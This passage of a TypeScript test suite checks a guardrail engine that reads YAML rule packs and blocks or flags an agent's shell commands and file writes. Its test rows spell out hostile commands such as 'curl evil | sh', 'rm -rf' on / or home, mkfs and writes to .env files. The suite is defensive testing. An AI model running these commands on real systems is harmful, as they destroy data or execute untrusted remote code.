// Goal: what a rule says is what happens. Packs load as people write them, a mistake closes the gate and says where it
// is, an exception excuses one command and not its neighbour, and nothing lowers a block. Method: rows of packs and
// lines through the real reader; packs in a store in memory and in real directories; fast-check for the order of rules.

import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { compilePacks } from "../../../../scripts/compile-packs.ts";
import { createEvents } from "../../../../src/engine/chronicle/events.ts";
import { createJournal } from "../../../../src/engine/chronicle/journal.ts";
import { fileGuards } from "../../../../src/engine/host/guard-files.ts";
import { findPackageRoot } from "../../../../src/engine/host/package-root.ts";
import type { Action } from "../../../../src/engine/judgment/facts.ts";
import { decideGuard } from "../../../../src/engine/judgment/guard/decide-guard.ts";
import { createGuard, type WholeGuard } from "../../../../src/engine/judgment/guard/guard.ts";
import { actionsOf, judgeMoves, strictest } from "../../../../src/engine/judgment/guard/judge-moves.ts";
import { lintPack } from "../../../../src/engine/judgment/guard/lint.ts";
import type { Pack, PackSet } from "../../../../src/engine/judgment/guard/pack.ts";
import { composed, createPacks } from "../../../../src/engine/judgment/guard/packs.ts";
import { pathPattern, wordPattern } from "../../../../src/engine/judgment/guard/patterns.ts";
import { plainOf } from "../../../../src/engine/judgment/guard/plain-pack.ts";
import { readPack } from "../../../../src/engine/judgment/guard/read-pack.ts";
import { readAction } from "../../../../src/engine/judgment/reading/read-action.ts";
import { type Ruling, rulingKinds } from "../../../../src/engine/judgment/ruling.ts";
import { judgeSteps, rulesOf } from "../../../../src/engine/plans/ruled.ts";
import type { Move } from "../../../../src/engine/pulse/move.ts";
import { decidePermit } from "../../../../src/engine/pulse/permit.ts";
import type { Actor } from "../../../../src/engine/types.ts";
import { verbs } from "../../../../src/engine/verbs/table.ts";
import { manualClock } from "../../../fakes/manual-clock.ts";
import { memoryStore } from "../../../fakes/memory-store.ts";
import { noGuardFiles } from "../../../fakes/no-guard-files.ts";
import { utc } from "../../../support/steering.ts";

const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});
function scratch(): string {
  const dir = mkdtempSync(join(tmpdir(), "looop-guard-"));
  dirs.push(dir);
  return dir;
}

const shell = (line: string, cwd = "/repo"): Action => ({ kind: "shell", line, cwd });

function packOf(text: string, stem = "mine"): Pack {
  const { pack, problems } = readPack({ place: "own", source: `${stem}.yaml`, stem, text });
  expect(problems).toEqual([]);
  if (pack === undefined) throw new Error("no pack");
  return pack;
}

const setOf = (...packs: Pack[]): PackSet => ({ packs, problems: [], hash: "h" });

/** The kind of what the rules say, and of whom. */
function said(pack: Pack, action: Action): string {
  const { kind, hits } = decideGuard(readAction(action), setOf(pack));
  return [kind, ...hits.map(({ rule }) => rule.id.split("/")[1])].join(" ");
}

// --- what is shipped -----------------------------------------------------------------------------------------------

const shippedDir = join(findPackageRoot() ?? "", "seeds", "guardrails");

describe("the shipped packs", () => {
  it("catch what they say and let pass what they say, each rule with rows of both", async () => {
    const { shipped, read } = fileGuards(() => 0);
    const listing = await shipped();
    if (listing.kind !== "ok") throw new Error(listing.why);
    const names: string[] = [];
    for (const { path } of listing.files) {
      const bytes = await read(path, 1_000_000);
      if (bytes.kind !== "ok") throw new Error(path);
      const linted = lintPack({
        place: "shipped",
        source: path,
        stem: "?",
        text: Buffer.from(bytes.bytes).toString(),
      });
      expect(linted.problems).toEqual([]);
      for (const rule of linted.pack?.rules ?? []) {
        expect([rule.id, rule.catches.length > 0, rule.passes.length > 0]).toEqual([rule.id, true, true]);
        expect(rule.message).not.toMatch(/^rule /);
      }
      names.push(linted.pack?.name ?? "");
    }
    expect(names).toEqual(["cloud", "core-safety", "database", "deploy", "git", "secrets"]);
  });
});

const SEED = `# org guardrail pack — versioned in git, enforced per lap
rules:
  - id: irreversible-recursive-delete
    match: "rm -rf|rm -fr"
    action: block
    severity: critical
  - id: production-deploy
    match: "kubectl apply|deploy --prod"
    action: approve # human sign-off required
    severity: high
  - id: secrets-write
    match: "\\.env|credentials|\\.pem"
    action: warn
    severity: high
`;

describe("a pack as people write it", () => {
  it("needs no name, takes `\\.` in double quotes, and the other spelling of `match`", () => {
    for (const text of [SEED, SEED.replaceAll("match:", "pattern:")]) {
      const pack = packOf(text, "org");
      expect(pack.rules.map(({ id, action, severity }) => [id, action, severity])).toEqual([
        ["org/irreversible-recursive-delete", "block", "critical"],
        ["org/production-deploy", "approve", "high"],
        ["org/secrets-write", "warn", "high"],
      ]);
      expect(said(pack, shell("rm -rf build"))).toBe("block irreversible-recursive-delete");
      expect(said(pack, shell("kubectl apply -f x; cat .env"))).toBe(
        "approve production-deploy secrets-write",
      );
      expect(said(pack, shell("cat xenv"))).toBe("pass");
    }
  });

  const rule = (more: string) => `rules:\n  - id: a\n    action: block\n    ${more}\n`;

  it.each([
    ["an unknown member of a rule", rule("match: x\n    colour: red"), 5, /no member `colour`/],
    ["an unknown member of a pack", "rulez: []\n", 1, /no member `rulez`/],
    ["an unknown fact", rule("when: {comand: git}"), 4, /no member `comand`/],
    ["an unknown action", "rules:\n  - {id: a, match: x, action: allow}\n", 2, /`action` cannot be `allow`/],
    ["no action", "rules:\n  - {id: a, match: x}\n", 2, /no `action`/],
    ["no id", "rules:\n  - {match: x, action: warn}\n", 2, /no `id`/],
    ["nothing to look for", "rules:\n  - {id: a, action: warn}\n", 2, /neither `match` nor `when`/],
    ["an empty `when`", rule("when: {}"), 4, /catch everything/],
    ["an empty pattern", rule('match: ""'), 4, /empty/],
    ["a broken expression", rule("match: '('"), 4, /no usable regular expression/],
    ["a backreference", rule("match: '(a)\\1'"), 4, /no usable regular expression/],
    ["a lookahead", rule("match: '(?!a)b'"), 4, /no usable regular expression/],
    ["a backspace where \\b was meant", rule('match: "\\bprod\\b"'), 4, /control character/],
    ["an exception of nothing", rule("when: {cmd: x}\n    excludes: y"), 5, /`excludes` narrows `match`/],
    ["both spellings", rule("match: x\n    pattern: y"), 2, /both `match` and `pattern`/],
    ["an impossible effect", rule("when: {effect: explodes}"), 4, /`effect` cannot be `explodes`/],
    ["`where` alone", rule("when: {cmd: psql, where: false}"), 4, /`where` says something about `sql`/],
    ["a scope that is none", rule("match: x\n    scope: everywhere"), 5, /`scope` cannot be/],
    [
      "a rule twice",
      "rules:\n  - {id: a, match: x, action: warn}\n  - {id: a, match: y, action: warn}\n",
      3,
      /two rules/,
    ],
    ["an id that is no name", "rules:\n  - {id: a b, match: x, action: warn}\n", 2, /`id` is/],
    ["a reference", "rules:\n  - {id: &a x, match: *a, action: warn}\n", 2, /reference/],
    ["no YAML", "rules: [\n", 2, /not YAML/],
    ["a key twice", "rules: []\nrules: []\n", 2, /not YAML/],
    ["no rules at all", "pack: x\n", 1, /no `rules`/],
    ["rules that are no list of rules", "rules: [x]\n", 1, /must have members/],
    ["nothing", "", 1, /must have members/],
  ] as const)("with %s says where and what to do", (_, text, line, why) => {
    const { problems } = readPack({ place: "own", source: "bad.yaml", stem: "bad", text });
    expect(problems[0]).toMatchObject({ source: "bad.yaml", line, why: expect.stringMatching(why) });
    expect(problems[0]?.remedy).not.toBe("");
  });

  it("tells of a backreference what the engine does not know", () => {
    const { problems } = readPack({ place: "own", source: "b", stem: "b", text: rule("match: '(a)\\1'") });
    expect(problems[0]?.remedy).toMatch(/backreferences/);
  });

  it("never throws, whatever stands in it, and no alias unfolds", () => {
    const bomb = `a: &a [x,x]\nb: &b [*a,*a]\nrules: [${"*b,".repeat(50)}]\n`;
    expect(readPack({ place: "own", source: "b", stem: "b", text: bomb }).problems.length).toBeGreaterThan(0);
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.json()), (text) => {
        readPack({ place: "own", source: "f", stem: "f", text: `rules:\n  - ${text}` });
        readPack({ place: "own", source: "f", stem: "f", text });
      }),
      { numRuns: 300 },
    );
  });

  it("is done with a nasty expression in no time, because the engine does not backtrack", () => {
    const pack = packOf("rules:\n  - {id: slow, match: '(a+)+$', action: block}\n");
    expect(said(pack, shell(`echo ${"a".repeat(5_000)}!`))).toBe("pass");
  });
});

// --- facts ---------------------------------------------------------------------------------------------------------

describe("`when`", () => {
  const pack = (when: string) => packOf(`rules:\n  - {id: r, action: block, when: ${when}}\n`);
  const rows: readonly [when: string, caught: string, passed: string][] = [
    ["{cmd: git, verb: push}", "git -C x push", "git pull push"],
    ["{cmd: [rm, 'mkfs*']}", "mkfs.ext4 /dev/x", "rmdir x"],
    ["{cmd: sudo}", "sudo ls", "echo sudo"],
    ["{cmd: git, force: true}", "git push -f", "git push --force-with-lease"],
    ["{cmd: git, force: lease}", "git push --force-with-lease", "git push --force"],
    ["{cmd: git, verb: push, branch: 'release/*'}", "git push origin release/1", "git push origin main"],
    ["{cmd: git, hard: true}", "git reset --hard", "git reset --soft"],
    ["{cmd: git, deletes: true}", "git push --delete origin x", "git push origin x"],
    ["{cmd: ls, args: -l}", "ls -al", "ls -a"],
    ["{cmd: ls, args: --color}", "ls --color=auto", "ls --colors"],
    ["{cmd: aws, args: 'delete-*'}", "aws x delete-y", "aws x list-y"],
    ["{sql: drop table}", 'psql -c "drop table x"', 'psql -c "drop index x"'],
    ["{sql: delete, where: false}", 'psql -c "delete from x"', 'psql -c "delete from x where a = 1"'],
    ["{path: '.env', writes: true}", "echo a > x/.env", "cat x/.env"],
    ["{path: 'src/**', deletes: true}", "rm src/a/b.ts", "cat src/a/b.ts"],
    ["{host: '*.example.com'}", "curl https://a.example.com/x", "curl https://example.org"],
    ["{cmd: ssh, host: prod}", "ssh prod ls", "ssh staging ls"],
    ["{path: '**', outside: true}", "cat /repository/x", "cat /repo/x"],
    ["{path: '**', outside: true}", "cat ../x", "cat x"],
    ["{effect: destroys}", "rm -r x", "ls"],
    ["{opaque: true}", 'eval "$X"', "ls"],
    ["[{cmd: ls}, {cmd: cat}]", "cat x", "echo x"],
  ];
  it.each(rows)("%s catches `%s` and not `%s`", (when, caught, passed) => {
    expect(said(pack(when), shell(caught))).toBe("block r");
    expect(said(pack(when), shell(passed))).toBe("pass");
  });

  it("holds for one command, and not for a bit of each", () => {
    const both = pack("{cmd: git, verb: push, args: --force}");
    expect(said(both, shell("git push && rm --force x"))).toBe("pass");
    expect(said(both, shell("ls; git push --force"))).toBe("block r");
    const path = pack("{cmd: cat, path: '.env'}");
    expect(said(path, shell("cat a; ls .env"))).toBe("pass");
  });

  it("with `match` as well looks for it in that command alone", () => {
    const rule = packOf("rules:\n  - {id: r, action: block, when: {cmd: git}, match: main}\n");
    expect(said(rule, shell("git push origin main"))).toBe("block r");
    expect(said(rule, shell("git push; echo main"))).toBe("pass");
  });

  it("narrows to a kind of action by `scope`, of the rule or of the pack", () => {
    const rule = packOf(
      "scope: write\nrules:\n  - {id: w, action: warn, match: x}\n  - {id: s, action: warn, match: x, scope: bash}\n",
    );
    expect(said(rule, shell("echo x"))).toBe("pass s");
    expect(said(rule, { kind: "write", path: "a", text: "x" })).toBe("pass w");
    expect(said(rule, { kind: "intent", text: "x" })).toBe("pass");
    const ofAnOrg = packOf("scope: org\nrules:\n  - {id: o, action: warn, match: x}\n");
    expect(said(ofAnOrg, { kind: "intent", text: "x" })).toBe("pass o");
  });

  it("knows a tool by its name", () => {
    const rule = pack("{tool: 'mcp__*__delete*'}");
    expect(said(rule, { kind: "tool", name: "mcp__a__delete_b", input: {} })).toBe("block r");
    expect(said(rule, { kind: "tool", name: "mcp__a__list", input: {} })).toBe("pass");
  });
});

describe("words that a command gets from beside it", () => {
  const pack = packOf("rules:\n  - {id: prod, match: 'deploy\\.sh\\s+prod', action: block}\n");

  it.each([
    "sh -c './deploy.sh \"$1\"' _ prod",
    "bash -c './deploy.sh $0' prod",
    "sh -c '\"$@\"' _ ./deploy.sh prod",
    "bash -c './deploy.sh $2' _ \"$X\" y || sh -c './deploy.sh $1' _ prod \"$X\"",
    "echo prod | xargs ./deploy.sh",
    "echo prod | xargs -n1 -I{} ./deploy.sh {}",
    "echo prod | xargs -I% sh -c './deploy.sh %'",
    "printf prod | sudo xargs ./deploy.sh",
    "alias d=./deploy.sh; d prod",
    "alias d='./deploy.sh prod'; d 'a b'",
    "git -c alias.d='!./deploy.sh' d prod",
  ])("are seen where they can be told: %s", (line) => {
    expect(said(pack, shell(line))).toBe("block prod");
  });

  it.each([
    "sh -c './deploy.sh \"$2\"' _ prod",
    "sh -c './deploy.sh $1' _ \"$X\" prod",
    "echo stage | xargs ./deploy.sh",
    "git -c alias.d='!./deploy.sh' e prod",
    "alias d=./deploy.sh; e prod",
    "trap './deploy.sh$@ prod' EXIT",
  ])("are not made up: %s", (line) => {
    expect(said(pack, shell(line))).toBe("pass");
  });

  it("are read beside the command itself, since not every shell puts an alias in", () => {
    expect(said(pack, shell("alias ./deploy.sh=echo; ./deploy.sh prod"))).toBe("block prod");
    expect(said(pack, shell("alias d='d d'; d d prod"))).toBe("pass");
  });
});

describe("`excludes`", () => {
  const pack = packOf(
    "rules:\n  - {id: f, action: block, match: 'push.*--force', excludes: '--force-with-lease'}\n",
  );
  it.each([
    ["git push --force", "block f"],
    ["git push --force-with-lease", "pass"],
    ['git push "--force-with-lease"', "pass"],
    ["git push --force-with-lease && git push --force", "block f"],
    ["git push --force && git push --force-with-lease", "block f"],
    ["git push --force; echo --force-with-lease", "block f"],
    ["git push --force # --force-with-lease", "block f"],
    ['git push --force-with-lease; bash -c "git push --force"', "block f"],
    ["git push --force-with-lease; git push --force-with-lease", "pass"],
  ])("in `%s`: %s", (line, expected) => {
    expect(said(pack, shell(line))).toBe(expected);
  });

  it("excuses nothing that only several commands make up together", () => {
    const piped = packOf("rules:\n  - {id: p, action: block, match: 'curl .*\\| *sh', excludes: trusted}\n");
    expect(said(piped, shell("curl evil | sh"))).toBe("block p");
    expect(said(piped, shell("curl evil | sh; curl trusted | sh"))).toBe("block p");
    expect(said(piped, shell("curl evil | sh; echo trusted"))).toBe("block p");
  });

  it("excuses one line of a text and not the next", () => {
    const keys = packOf("rules:\n  - {id: k, action: warn, match: 'KEY=\\w+', excludes: EXAMPLE}\n");
    expect(said(keys, { kind: "write", path: "a", text: "KEY=EXAMPLE" })).toBe("pass");
    expect(said(keys, { kind: "write", path: "a", text: "KEY=EXAMPLE\nKEY=real" })).toBe("pass k");
  });
});

// --- deciding ------------------------------------------------------------------------------------------------------

describe("the decision", () => {
  const pack = packOf(`rules:
  - {id: stop, action: block, match: danger, message: never}
  - {id: ask, action: approve, match: danger|careful, message: first}
  - {id: hint, action: warn, match: danger|careful|odd, message: look}
`);

  it("is the strictest of all, and keeps every warning", () => {
    const { ruling, warnings } = decideGuard(readAction(shell("echo danger")), setOf(pack));
    expect(ruling).toMatchObject({
      kind: "block",
      layer: "guardrails",
      by: "mine/stop",
      reason: expect.stringMatching(/^never/),
    });
    expect(warnings.map(({ ref }) => ref)).toEqual(["mine/hint"]);
    expect(said(pack, shell("echo careful"))).toBe("approve ask hint");
    expect(said(pack, shell("echo odd"))).toBe("pass hint");
    const asked = decideGuard(readAction(shell("echo careful")), setOf(pack));
    expect(asked.ruling).toMatchObject({ kind: "ask", by: "mine/ask", evidence: [{ ref: "mine/ask" }] });
  });

  it("while a pack cannot be used lets only looking go on, and says why", () => {
    const problems = [{ source: "bad.yaml", line: 3, why: "no `action`", remedy: "add it" }];
    const closed: PackSet = { ...setOf(pack), problems };
    const decided = (line: string) => decideGuard(readAction(shell(line)), closed);
    expect(decided("ls").kind).toBe("pass");
    expect(decided("git status").kind).toBe("pass");
    expect(decided("touch x").ruling).toMatchObject({
      kind: "block",
      by: "closed",
      mend: "add it",
      reason: expect.stringMatching(/bad\.yaml:3 is mended: no `action`/),
    });
    expect(decided('eval "$X"').kind).toBe("block");
    // What would be blocked anyhow is blocked for what it is: mending does not change that.
    expect(decided("echo danger").ruling).toMatchObject({ by: "mine/stop" });
    expect(decided("echo danger").ruling.mend).toBeUndefined();
  });

  it("does not depend on the order of rules and packs, nor on how often one stands there", () => {
    const texts = ["stop", "ask", "hint"].map((id) =>
      packOf(
        `pack: ${id}\nrules:\n  - {id: r, match: x, action: ${{ stop: "block", ask: "approve", hint: "warn" }[id]}}\n`,
      ),
    );
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...texts), { minLength: 1, maxLength: 8 }), (packs) => {
        const { ruling, hits } = decideGuard(readAction(shell("echo x")), setOf(...packs));
        const names = new Set(packs.map(({ name }) => name));
        expect(ruling.kind).toBe(names.has("stop") ? "block" : names.has("ask") ? "ask" : "proceed");
        expect(hits.length).toBe(names.size);
      }),
    );
  });

  it("of a block stays one, whatever else is sure of itself, allowed or said before (I11)", () => {
    const block = decideGuard(readAction(shell("echo danger")), setOf(pack)).ruling;
    const other = fc.record({
      kind: fc.constantFrom(...rulingKinds),
      layer: fc.constantFrom("scope", "precedents", "learned", "cold_start", "clone" as const),
      by: fc.string(),
      reason: fc.string(),
      confidence: fc.double({ min: 0, max: 1, noNaN: true }),
      risk: fc.constantFrom("reversible", "irreversible", "destructive" as const),
      evidence: fc.constant([]),
      warnings: fc.constant([]),
    });
    const moves: readonly Move[] = [
      { action: "run_shell", cmd: "git status" },
      { action: "run_shell", cmd: "git push" },
      { action: "write_goal", id: "g", body: "b" },
    ];
    fc.assert(
      fc.property(
        fc.array(other as fc.Arbitrary<Ruling>, { maxLength: 5 }),
        fc.nat(),
        fc.constantFrom(...moves),
        (others, at, move) => {
          const all = [...others];
          all.splice(at % (all.length + 1), 0, block);
          const ruling = strictest(all);
          const permit = decidePermit(move, { playbook: { kind: "missing" }, ...(ruling && { ruling }) });
          expect(permit.kind).toBe("refuse");
        },
      ),
    );
  });
});

// --- the corpus ----------------------------------------------------------------------------------------------------

interface Row {
  readonly text: string;
  readonly class: string;
  readonly kind?: string;
  readonly rules?: readonly string[];
}

const corpusDir = resolve(import.meta.dirname, "../../../fixtures/corpus");
const yamlOf = (name: string): unknown => parse(readFileSync(join(corpusDir, name), "utf8"));
const corpus = readdirSync(corpusDir)
  .filter((name) => name !== "classes.yaml")
  .flatMap((name) => yamlOf(name) as Row[]);
const musts = yamlOf("classes.yaml") as Readonly<Record<string, { readonly must: "caught" | "passes" }>>;

describe("the shipped packs on the corpus", () => {
  const packs = readdirSync(shippedDir).map((name) =>
    packOf(readFileSync(join(shippedDir, name), "utf8"), name),
  );
  const decided = corpus.map((row) => {
    const action: Action =
      row.kind === "intent" ? { kind: "intent", text: row.text } : shell(row.text, "/home/ann/project");
    return { row, decision: decideGuard(readAction(action), setOf(...packs)) };
  });

  it("stop and ask for nothing that is harmless", () => {
    const harmless = decided.filter(({ row }) => musts[row.class]?.must === "passes");
    expect(harmless.length).toBeGreaterThan(200);
    const stopped = harmless.filter(({ decision }) => decision.kind !== "pass");
    expect(stopped.map(({ row, decision }) => [row.text, decision.ruling.by])).toEqual([]);
  });

  it("fire where a row says which of them must", () => {
    for (const { row, decision } of decided) {
      const fired = decision.hits.map(({ rule }) => rule.id);
      for (const id of row.rules ?? [])
        expect([row.text, fired]).toEqual([row.text, expect.arrayContaining([id])]);
    }
  });

  /** Share of rows that a rule blocks or asks about; the other layers look at the rest. They may only rise. */
  it.each([
    ["wrappers", 0.65],
    ["heredocs", 1],
    ["publishing", 0.95],
    ["secrets", 0.8],
    ["cloud", 0.79],
    ["sql", 0.7],
    ["git", 0.68],
    ["removing", 0.62],
    ["obfuscation", 0.65],
  ] as const)("catch their share of %s", (name, share) => {
    const rows = decided.filter(({ row }) => row.class === name);
    const caught = rows.filter(({ decision }) => decision.kind !== "pass");
    expect(caught.length / rows.length).toBeGreaterThanOrEqual(share);
  });

  it("block what takes a whole machine or a home with it, however it is hidden", () => {
    const all = decided.filter(({ row }) =>
      /^[^'"#]*\brm\s+(-\w+\s+)*(-rf|-fr|-Rf)\s+(\/|~|\$HOME)\s*$/.test(row.text),
    );
    expect(all.length).toBeGreaterThan(15);
    const open = all.filter(({ decision }) => decision.kind === "pass");
    expect(open.map(({ row }) => row.text)).toEqual([]);
  });
});

describe("what only a person may type", () => {
  it("is what a rule keeps agents from, whatever they take out of their environment", () => {
    const packs = setOf(packOf(readFileSync(join(shippedDir, "core-safety.yaml"), "utf8"), "core-safety"));
    const theirs = verbs.filter(({ byPerson }) => byPerson === true);
    expect(theirs.length).toBeGreaterThan(15);
    for (const path of theirs.flatMap((verb) => [verb.path, ...(verb.aliases ?? [])]))
      for (const line of [`looop ${path.join(" ")} x`, `env -u CLAUDECODE looop ${path.join(" ")} x`])
        expect([line, decideGuard(readAction(shell(line)), packs).ruling.by]).toEqual([
          line,
          "core-safety/own-decisions",
        ]);
  });
});

describe("the records of a data directory", () => {
  const home = scratch();
  const [dataDir, other] = [join(home, "work-loop"), join(home, "lab")];
  for (const dir of ["answers", "guardrails", "reports"]) mkdirSync(join(dataDir, dir), { recursive: true });
  mkdirSync(join(other, ".lock"), { recursive: true });
  writeFileSync(join(other, ".lock", "lock"), "");
  mkdirSync(join(home, "plain"));
  symlinkSync(join(dataDir, "answers"), join(home, "plain", "link"));
  const configPaths = [join(dataDir, "config.yaml"), join(home, "settings.yaml")];
  const guardFiles = fileGuards(() => Date.now(), undefined, undefined, { dataDir, home, configPaths });
  const { store } = memoryStore({ clock: manualClock() });
  const guard = createGuard({ store, guardFiles } as never);
  const ruled = async (action: string | Action) => {
    const cwd = join(home, "plain");
    const facts = readAction(typeof action === "string" ? shell(action, cwd) : action);
    const { kind, hits } = await guard.decide(facts);
    return [kind, ...hits.map(({ rule }) => rule.id)].join(" ");
  };

  it.each([
    "echo '{}' > ~/work-loop/answers/a-1.json",
    "cp x ~/work-loop/answers/a-1.json",
    "cp x $HOME/work-loop/reports/../answers/a-1.json",
    'cp x "$LOOOP_DATA_DIR"/answers/a-1.json',
    `tee ${dataDir}/answers/a-1.json`,
    "tee ../work-loop/answers/a-1.json",
    "echo x > link/a-1.json",
    "echo x > ~/lab/grants/a.json",
    "echo x > ~/lab/intents/a.json",
    "mv x ~/lab/proposals/a.json",
    "cd ~/work-loop && echo x > answers/a-1.json",
    'cd "$LOOOP_DATA_DIR/reports"; cd ..; echo x > answers/a-1.json',
    { kind: "write", path: `${dataDir}/answers/a-1.json` },
    { kind: "write", path: "answers/a-1.json", cwd: dataDir },
  ] satisfies (string | Action)[])("are kept from %j, whatever it is called", async (action) => {
    expect(await ruled(action)).toMatch(/^block .*core-safety\/own-records/);
  });

  it.each([
    ["cp x ~/work-loop/guardrails/team.yaml", "core-safety/own-guards"],
    ["rm ~/lab/guardrails/team.yaml", "core-safety/own-guards"],
    ["echo 'autonomy: {}' >> ~/work-loop/config.yaml", "core-safety/own-settings"],
    ["echo 'autonomy: {}' >> ~/settings.yaml", "core-safety/own-settings"],
    ["cp x ~/lab/memory.db", "core-safety/own-settings"],
  ])("that decide are asked about: %s", async (line, rule) => {
    expect(await ruled(line)).toMatch(new RegExp(`^approve .*${rule}`));
  });

  it.each([
    "echo done > ~/work-loop/reports/fix.md",
    "echo x > answers/a-1.json",
    "cd ~/plain && echo x > answers/a-1.json",
    "cd ~/*; cd /tmp; echo x > answers/a-1.json",
    "echo x > config.yaml",
    "cat ~/work-loop/answers/a-1.json",
    "echo x > $HOMELESS/work-loop/answers/a-1.json",
  ])("leave everything else alone: %s", async (line) => {
    expect(await ruled(line)).toBe("pass");
  });
});

describe("what the build makes of the shipped packs", () => {
  const built = async () => {
    const dir = scratch();
    await compilePacks(dir);
    return join(dir, "guardrails.json");
  };
  const loadedWith = (path: string) => {
    const { store } = memoryStore({ clock: manualClock() });
    const guardFiles = fileGuards(() => Date.now(), undefined, path);
    return createPacks({ store, guardFiles }).load(undefined);
  };

  it("is what is read where nothing was built, rule by rule, and says the same of every fourth row of the corpus", async () => {
    const [compiled, parsed] = [await loadedWith(await built()), await loadedWith("/nowhere")];
    expect(compiled.hash).toBe(parsed.hash);
    const plain = ({ packs }: PackSet) => packs.map((pack) => ({ ...pack, ...plainOf("", pack) }));
    expect(JSON.parse(JSON.stringify(plain(compiled)))).toEqual(JSON.parse(JSON.stringify(plain(parsed))));
    for (const { text, kind } of corpus.filter((_, index) => index % 4 === 0)) {
      const facts = readAction(kind === "intent" ? { kind, text } : shell(text, "/home/ann/project"));
      expect([text, decideGuard(facts, compiled)]).toEqual([text, decideGuard(facts, parsed)]);
    }
  });

  it("counts only for the text that it was made of; for another one, and where it is torn, the pack is read", async () => {
    const path = await built();
    const altered = (text: string) => {
      writeFileSync(path, text);
      return loadedWith(path);
    };
    const whole = readFileSync(path, "utf8");
    const { hash } = await loadedWith(path);
    // Of another text, with no rule at all in it.
    const stale = JSON.parse(whole).map((each: { text: string }) => ({
      text: `${each.text} `,
      pack: { name: "x", version: "", description: "", rules: [] },
    }));
    for (const text of [JSON.stringify(stale), whole.slice(0, -9), "{}", ""])
      expect(await altered(text)).toMatchObject({ hash, problems: [] });
    // Of the same text it is believed: so the rows above do tell.
    const believed = stale.map((each: { text: string }) => ({ ...each, text: each.text.slice(0, -1) }));
    expect((await altered(JSON.stringify(believed))).packs.flatMap(({ rules }) => rules)).toEqual([]);
  });
});

describe("globs", () => {
  /** As they are defined, with nothing quick about them. */
  const slow = (glob: string, kind: "path" | "word") => {
    const char = (c: string) => (/[\\^$.|?*+()[\]{}]/.test(c) ? `\\${c}` : c);
    const parts = glob.split(kind === "path" ? /(\*\*\/|\*\*|\*|\?)/ : /(\*|\?)/);
    const wild: Record<string, string> =
      kind === "path"
        ? { "**/": "(?:.*/)?", "**": ".*", "*": "[^/]*", "?": "[^/]" }
        : { "*": ".*", "?": "." };
    const inner = parts.map((part) => wild[part] ?? [...part].map(char).join("")).join("");
    const head = kind === "word" || /^[/~$]/.test(glob) ? "" : "(?:.*/)?";
    return new RegExp(`^${head}${inner}${kind === "path" ? "/?" : ""}$`, "isu");
  };

  it.each(["path", "word"] as const)("of a %s hold for what they say, by whatever way", (kind) => {
    const piece = fc.constantFrom("a", "B", ".env", "/", "*", "**", "?", "~", "$", "x.pem", "-", "\n", "é");
    const text = (pieces: fc.Arbitrary<string>) =>
      fc.array(pieces, { maxLength: 6 }).map((all) => all.join(""));
    const plain = fc.constantFrom("a", "A", "b", ".env", "/", "~", "$", "x.PEM", "-", "\n", "É", "y");
    fc.assert(
      fc.property(text(piece), text(plain), (glob, said) => {
        fc.pre(glob !== "");
        const pattern = kind === "path" ? pathPattern(glob) : wordPattern(glob);
        expect([glob, said, pattern.test(said)]).toEqual([glob, said, slow(glob, kind).test(said)]);
      }),
      { numRuns: 1_500 },
    );
  });
});

// --- where packs come from -----------------------------------------------------------------------------------------

const ADA: Actor = { kind: "person", name: "ada", surface: "terminal" };
const STOP = "rules:\n  - {id: stop, match: danger, action: block}\n";
const EMPTY = "rules:\n  - {id: never, match: 'no such word', action: warn}\n";

interface Ground {
  readonly guard: WholeGuard;
  readonly control: ReturnType<typeof memoryStore>["control"];
  readonly repo: string;
  put(name: string, text: string): void;
  journal(): Promise<readonly string[]>;
}

/** Reading what is shipped takes its time: only for whoever asks about it. */
function openGround(packs: "shipped too" | "own" = "own"): Ground {
  const clock = manualClock();
  const { store, control } = memoryStore({ clock });
  const base = { store, clock, localTime: utc, watcher: { watch: () => ({ close: () => undefined }) } };
  const events = createEvents({ ...base, ids: { nonce: () => "n" } } as never);
  const journal = createJournal(base as never);
  const repo = scratch();
  mkdirSync(join(repo, ".git"));
  mkdirSync(join(repo, ".looop", "guardrails"), { recursive: true });
  mkdirSync(join(repo, "sub", "deep"), { recursive: true });
  const files = fileGuards(() => Date.now());
  const guardFiles = packs === "own" ? { ...files, shipped: noGuardFiles.shipped } : files;
  const guard = createGuard({ store, guardFiles, events, journal });
  return {
    guard,
    control,
    repo,
    put: (name, text) => writeFileSync(join(repo, ".looop", "guardrails", name), text),
    async journal() {
      const tail = await journal.tail(20);
      return tail.kind === "ok" ? tail.lines : [];
    },
  };
}

async function kindOf({ guard }: Ground, line: string, cwd?: string): Promise<string> {
  const tested = await guard.test({ kind: "shell", line, ...(cwd !== undefined && { cwd }) });
  return "ruling" in tested ? tested.ruling.kind : tested.kind;
}

describe("packs", () => {
  it("of a repository count from below it up to its root, and nowhere else", async () => {
    const ground = openGround();
    ground.put("team.yaml", STOP);
    expect(await kindOf(ground, "echo danger", join(ground.repo, "sub", "deep"))).toBe("block");
    expect(await kindOf(ground, "echo danger", ground.repo)).toBe("block");
    expect(await kindOf(ground, "echo danger", scratch())).toBe("proceed");
    expect(await kindOf(ground, "echo danger")).toBe("proceed");
  });

  it("of a repository hold for what is planned there, too", async () => {
    const ground = openGround();
    ground.put("team.yaml", STOP);
    const ruled = rulesOf(ground.guard);
    const judge = (cwd: string) =>
      judgeSteps(
        { ruleOn: ruled },
        { cwd, steps: [{ id: "S1", title: "danger", description: "", finish: [] }] },
      );
    expect(await judge(join(ground.repo, "sub"))).toMatchObject({ kind: "refused", field: "steps" });
    expect(await judge(scratch())).toEqual({ kind: "ok", warnings: [] });
    const judgment = judgeMoves({ judge: alone(ground.guard), guard: ground.guard, dataDir: "/data" });
    const move = { action: "start_plan", id: "p", goal: "danger", cwd: ground.repo } as const;
    expect(await judgment.rule(move)).toMatchObject({ kind: "block" });
  });

  it("changed on disk count at the next action", async () => {
    const ground = openGround();
    ground.put("team.yaml", EMPTY);
    expect(await kindOf(ground, "echo danger", ground.repo)).toBe("proceed");
    const before = await ground.guard.standing(ground.repo);
    ground.put("team.yaml", STOP);
    expect(await kindOf(ground, "echo danger", ground.repo)).toBe("block");
    expect(await ground.guard.standing(ground.repo)).not.toEqual(before);
    ground.control.plant("guardrails/own.yaml", EMPTY);
